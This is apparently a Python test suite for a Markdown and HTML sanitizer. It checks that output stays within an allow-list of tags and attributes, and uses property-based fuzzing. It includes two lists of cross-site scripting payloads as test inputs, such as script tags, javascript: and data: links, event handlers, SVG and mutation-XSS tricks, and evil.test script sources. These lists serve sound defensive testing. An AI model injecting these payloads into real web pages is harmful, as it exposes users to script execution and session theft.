"""Sanitizing authored content: Markdown renders to the allow-listed HTML the SDK accepts, and
no script vector survives either the Markdown path or raw HTML cleaning."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guides.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    clean_html,
    clean_text,
    contains_nul,
    render_markdown,
)

REL = 'rel="noopener noreferrer nofollow"'

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<span style="position:fixed;inset:0">overlay</span>',
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.test"><button formaction="javascript:alert(1)">x</button></form>',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<style>@import 'https://evil.test/x.css';</style>",
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '[x](https://ok.test "a" onclick="alert(1)")',
    "[x]: javascript:alert(1)\n\n[click][x]",
    *XSS_VECTORS,
]


class Elements(HTMLParser):
    """Every start tag in a piece of HTML, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    """Only allow-listed tags and attributes; links only to http(s), mailto or relative.

    Checked on the parsed markup: `javascript:` as visible text is harmless.
    """
    for tag, attrs in Elements(html).tags:
        assert tag in ALLOWED_TAGS, html
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, html
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer nofollow", html
            href = (attrs.get("href") or "").strip().lower()
            scheme = re.match(r"^([a-z][a-z0-9+.-]*):", href)
            assert scheme is None or scheme.group(1) in ("http", "https", "mailto"), html


class TestSafetyCheck:
    @pytest.mark.parametrize(
        "html",
        [
            "<script>x</script>",
            f'<a href="javascript:alert(1)" {REL}>x</a>',
            f'<a href=" JavaScript:alert(1)" {REL}>x</a>',
            f'<a href="data:text/html,x" {REL}>x</a>',
            '<a href="https://e.test">no rel</a>',
            '<p style="color:red">x</p>',
            '<img src="x">',
            '<span onclick="x()">x</span>',
        ],
    )
    def test_the_safety_check_catches_what_it_looks_for(self, html: str) -> None:
        with pytest.raises(AssertionError):
            assert_safe(html)


class TestRenderMarkdown:
    @pytest.mark.parametrize(
        ("source", "html"),
        [
            ("Hello **world**", "<p>Hello <strong>world</strong></p>"),
            ("*em* and `code`", "<p><em>em</em> and <code>code</code></p>"),
            ("line one\nline two", "<p>line one<br>\nline two</p>"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
            ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
            ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
            ("### Heading", "<h3>Heading</h3>"),
            ("```\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
            (
                "[docs](https://docs.example.com/a?b=1)",
                f'<p><a href="https://docs.example.com/a?b=1" {REL}>docs</a></p>',
            ),
            ("[help](/help)", f'<p><a href="/help" {REL}>help</a></p>'),
            (
                "[mail](mailto:help@example.com)",
                f'<p><a href="mailto:help@example.com" {REL}>mail</a></p>',
            ),
            ("", ""),
        ],
    )
    def test_markdown_renders_to_the_allowed_html(self, source: str, html: str) -> None:
        assert render_markdown(source) == html

    def test_raw_html_in_markdown_is_shown_as_text(self) -> None:
        assert render_markdown("<b onclick=x()>hi</b>") == (
            "<p>&lt;b onclick=x()&gt;hi&lt;/b&gt;</p>"
        )

    def test_a_javascript_link_stays_plain_text(self) -> None:
        assert render_markdown("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>"

    def test_headings_outside_the_allow_list_keep_only_their_text(self) -> None:
        assert render_markdown("# Big") == "Big"

    @pytest.mark.parametrize("source", MARKDOWN_VECTORS)
    def test_no_script_vector_survives_markdown(self, source: str) -> None:
        assert_safe(render_markdown(source))


class TestCleanHtml:
    @pytest.mark.parametrize("html", XSS_VECTORS)
    def test_no_script_vector_survives_cleaning(self, html: str) -> None:
        assert_safe(clean_html(html))

    @pytest.mark.parametrize(
        ("html", "cleaned"),
        [
            ("<script>alert(1)</script>ok", "ok"),
            ("<img src=x onerror=alert(1)>", ""),
            ('<a href="javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
            ('<a href="JaVaScRiPt:alert(1)">x</a>', f"<a {REL}>x</a>"),
            ('<a href="javascript&#58;alert(1)">x</a>', f"<a {REL}>x</a>"),
            ('<a href="data:text/html,hi">x</a>', f"<a {REL}>x</a>"),
            ("<svg onload=alert(1)><circle/></svg>", ""),
            ('<p style="color:red" onclick="x()">t</p>', "<p>t</p>"),
            ('<iframe src="https://e.test"></iframe>', ""),
            ('<span class="big" id="s">s</span>', "<span>s</span>"),
        ],
    )
    def test_dangerous_parts_are_removed_and_the_rest_kept(self, html: str, cleaned: str) -> None:
        assert clean_html(html) == cleaned

    def test_links_get_a_safe_rel_replacing_the_authors(self) -> None:
        assert clean_html('<a href="https://e.test" target="_blank" rel="opener">x</a>') == (
            f'<a href="https://e.test" {REL}>x</a>'
        )

    def test_link_titles_are_kept(self) -> None:
        assert clean_html('<a href="/x" title="More">x</a>') == (
            f'<a href="/x" title="More" {REL}>x</a>'
        )

    def test_comments_are_dropped(self) -> None:
        assert clean_html("<!-- secret --><b>b</b>") == "<b>b</b>"


FRAGMENTS = st.sampled_from(
    [
        "<",
        ">",
        "/",
        '"',
        "'",
        "=",
        " ",
        "&#58;",
        "&#x09;",
        "script",
        "a href",
        "img src",
        "svg",
        "onerror",
        "onload",
        "style",
        "javascript:",
        "JaVaScRiPt:",
        "data:",
        "alert(1)",
        "[x](",
        ")",
        "**",
        "iframe",
        "\n",
    ]
)


class TestSanitizeProperties:
    @given(st.lists(FRAGMENTS | st.text(max_size=3), max_size=30).map("".join))
    def test_markdown_output_is_always_within_the_allow_list(self, source: str) -> None:
        assert_safe(render_markdown(source))

    @given(st.lists(FRAGMENTS | st.text(max_size=3), max_size=30).map("".join))
    def test_cleaned_html_is_always_within_the_allow_list(self, html: str) -> None:
        assert_safe(clean_html(html))


class TestCleanText:
    def test_control_characters_are_dropped_and_text_trimmed(self) -> None:
        assert clean_text("  Save\x00 your\x07 work\x1b[0m\r  ") == "Save your work[0m"

    def test_delete_and_c1_control_characters_are_dropped(self) -> None:
        assert clean_text("a\x7fb\x85c\x9bd") == "abcd"

    def test_newlines_tabs_and_unicode_are_kept(self) -> None:
        assert clean_text("Étape 1\tsur 3\nSuivant → 🎉") == "Étape 1\tsur 3\nSuivant → 🎉"

    def test_markup_is_left_for_the_renderer_to_escape(self) -> None:
        assert clean_text("<b>bold</b>") == "<b>bold</b>"

    @given(st.text())
    def test_no_control_character_other_than_newline_and_tab_survives(self, value: str) -> None:
        cleaned = clean_text(value)

        assert all(ch in "\n\t" or not (ch < " " or "\x7f" <= ch <= "\x9f") for ch in cleaned)


class TestContainsNul:
    @pytest.mark.parametrize(
        ("value", "found"),
        [
            ("plain", False),
            ("a\x00b", True),
            ({"key": "value"}, False),
            ({"k\x00": "v"}, True),
            ({"k": "v\x00"}, True),
            (["a", "b\x00"], True),
            ([1, 2.5, None, True], False),
            (None, False),
        ],
    )
    def test_nul_is_found_in_strings_keys_and_items(self, value: object, found: bool) -> None:
        assert contains_nul(value) is found
